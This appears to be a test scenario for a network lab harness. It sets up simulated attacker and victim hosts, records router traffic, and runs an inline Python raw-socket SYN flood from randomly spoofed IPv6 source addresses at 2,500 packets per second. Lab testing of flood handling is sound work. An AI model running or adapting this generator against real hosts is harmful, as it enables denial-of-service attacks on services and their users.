#!/bin/bash
# A SYN flood of a web server over IPv6 by random addresses of one /64, 2500 a
# second. hping3 has no IPv6 and nping keeps no pace, so a raw socket sends.
. "$(dirname "$0")/../../lab.sh"; lab
ipv6_site
outside attacker 203.0.113.66
ipv6 attacker 2001:db8:51::66 2001:db8:51::1
on isp ip -6 route add blackhole 2001:db8:66::/64
inside victim 10.20.0.10
ipv6 victim fd00:20::10 fd00:20::1
web victim 80 "[::]:80"
record router wan -s 110
on attacker /usr/bin/python3 -c '
import random, socket, struct, time
net, start = bytes.fromhex("20010db800660000"), time.monotonic()
for n in range(7000):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    s.setsockopt(socket.IPPROTO_IPV6, 7, 16)  # IPV6_CHECKSUM
    s.bind((socket.inet_ntop(socket.AF_INET6, net + random.randbytes(8)), 0))
    syn = struct.pack(">HHIIBBHHHBBH", random.randint(1024, 65535), 80, random.getrandbits(32), 0, 0x60, 2, 5840, 0, 0, 2, 4, 1440)
    s.sendto(syn, ("fd00:20::10", 0))
    s.close()
    time.sleep(max(0, start + n / 2500 - time.monotonic()))'
LAB_TAIL=2 recorded
